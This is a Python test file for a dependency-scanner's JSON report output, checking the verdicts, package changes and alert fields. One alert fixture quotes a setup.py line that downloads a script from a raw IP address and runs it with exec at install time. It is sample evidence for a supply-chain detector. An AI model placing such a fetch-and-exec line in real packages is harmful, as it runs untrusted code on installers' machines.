"""The JSON report."""

from __future__ import annotations

import json

from bot.model import ScanResult, Verdict
from bot.report.json_format import alert_to_dict, scan_to_dict


def test_realistic_json(result: ScanResult) -> None:
    data = scan_to_dict(result)
    assert json.loads(json.dumps(data)) == data
    assert data["verdict"] == "block"
    assert data["manifests"] == ["requirements.txt"]
    assert data["errors"] == ["advisory database unreachable: timed out after 10 s"]
    assert data["duration_seconds"] == 2.43
    packages = data["packages"]
    assert isinstance(packages, list)
    assert [p["name"] for p in packages] == ["fastjsonx", "requests", "tqdm", "httpcore"]
    assert packages[3] == {
        "name": "httpcore",
        "change": "added",
        "old_version": None,
        "new_version": "1.0.5",
        "via": ["httpx"],
        "locations": [{"path": "requirements.txt", "line": 5}],
        "alerts": [
            {
                "type": "network",
                "severity": "high",
                "action": "warn",
                "message": "Opens network connections.",
                "file": "httpcore/_backends/sync.py",
                "line": 12,
                "evidence": "sock = socket.create_connection(address, timeout)",
                "artifact": "httpcore-1.0.5.tar.gz",
                "adjusted_by": "",
            }
        ],
        "incomplete_reasons": ["the wheel is over the 50 MB download limit"],
        "reputation": None,
    }


def test_alert_to_dict(result: ScanResult) -> None:
    assert alert_to_dict(result.packages[0].alerts[1]) == {
        "type": "install-network",
        "severity": "high",
        "action": "block",
        "message": "Installing this package downloads and runs code from a raw IP address.",
        "file": "setup.py",
        "line": 14,
        "evidence": "data = urllib.request.urlopen('http://203.0.113.7/i.py').read()\nexec(data)",
        "artifact": "fastjsonx-1.0.2.tar.gz",
        "adjusted_by": "",
    }


def test_verdict_names() -> None:
    names = [
        scan_to_dict(ScanResult(packages=(), manifests=(), verdict=verdict))["verdict"]
        for verdict in Verdict
    ]
    assert names == ["pass", "block", "incomplete"]
